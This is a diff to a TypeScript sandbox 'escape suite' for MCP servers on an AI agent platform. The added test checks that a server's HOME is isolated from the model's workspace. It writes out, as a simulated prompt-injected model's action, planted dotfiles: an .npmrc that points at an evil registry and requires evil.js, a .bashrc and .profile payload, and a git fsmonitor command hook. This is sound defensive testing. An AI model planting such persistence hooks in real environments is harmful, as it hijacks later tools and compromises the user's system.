@@ -38,6 +38,7 @@ describe('stdio MCP servers: the escape suite', () => {
   const alice: Actor = { userId: randomUUID(), role: 'user' };
   const carol: Actor = { userId: randomUUID(), role: 'user' };
   const erin: Actor = { userId: randomUUID(), role: 'user' };
+  const dave: Actor = { userId: randomUUID(), role: 'user' };
   const hostTmpMarker = `/tmp/skald-ld-marker-${process.pid}`;
 
   beforeAll(async () => {
@@ -245,13 +246,53 @@ __attribute__((constructor)) static void evil(void) {
     expect(seen.uid).toBe(1000);
     expect(seen.seccomp).toBe('2'); // the command sandbox's syscall filter
     expect(seen.env.PROBE_TOKEN).toBe(token);
-    expect(seen.env.HOME).toBe('/workspace');
+    expect(seen.env.HOME).toBe('/mcp-home');
     for (const leaked of ['DATABASE_URL', 'NATS_URL', 'SKALD_SECRETS_KEY']) expect(seen.env[leaked]).toBeUndefined();
     // network: true, but the operator has not allowed it (SKALD_MCP_NETWORK=off): loopback only.
     expect(seen.net.trim()).toBe('lo');
     // The server is running now: no process on the host's side has its variable, argv or cwd.
     expect(hostProcessesWith(token)).toEqual([]);
     expect(hostProcessesWith(HOSTILE)).toEqual([]);
+  });
+
+  it("a server's HOME is its own: the model's dotfiles in /workspace are not read there, and no command sees it", async () => {
+    const cmd = async (command: string): Promise<string> => {
+      const r = await exec(dave, 'execute_cmd', { command });
+      expect(r.status).toBe('done');
+      return (r as { result: string }).result;
+    };
+    // What a prompt-injected model plants where a HOME of /workspace would pick it up.
+    await cmd(
+      'printf "registry=http://evil.invalid/\\nnode-options=--require /workspace/evil.js\\n" > /workspace/.npmrc; ' +
+        'echo "touch /workspace/PWNED" > /workspace/.bashrc; cp /workspace/.bashrc /workspace/.profile; ' +
+        'mkdir -p /workspace/.config/git && echo "[core] fsmonitor = touch /workspace/PWNED" > /workspace/.config/git/config',
+    );
+    const token = `tok${randomUUID().replaceAll('-', '')}`;
+    await hostile(dave, 'homeprobe', 'probe', { env: { PROBE_TOKEN: token } });
+    expect((await settledStatus(dave, 'homeprobe')).status).toBe('ready');
+    const reply = await exec(dave, 'mcp__homeprobe__probe', {});
+    expect(reply.status).toBe('done');
+    const seen = JSON.parse((reply as { result: string }).result) as {
+      env: Record<string, string>;
+      cwd: string;
+      home: string;
+      npmrc: string;
+    };
+    expect(seen.env.HOME).toBe('/mcp-home');
+    expect(seen.cwd).toBe('/mcp-home');
+    // Empty at start: none of the planted dotfiles; the server could keep a file there.
+    expect(seen.home).toBe('wrote-kept');
+    expect(seen.npmrc).not.toContain('evil');
+    // The server's HOME is neither in the workspace nor anywhere a command can see or write.
+    const ws = join(base, 'workspaces', dave.userId);
+    expect(existsSync(join(ws, '.server-kept'))).toBe(false);
+    const fromCmd = await cmd(
+      'ls -A /mcp-home 2>&1; cat /mcp-home/.server-kept 2>&1; echo x > /mcp-home/.npmrc 2>&1; echo "[$HOME]"; true',
+    );
+    expect(fromCmd).not.toContain('keep');
+    expect(fromCmd).toMatch(/No such file or directory|Read-only file system/);
+    expect(fromCmd).toContain('[/workspace]');
+    expect(existsSync(join(ws, 'PWNED'))).toBe(false);
   });
 
   it('an endless or repeating nextCursor ends at the page bound', async () => {
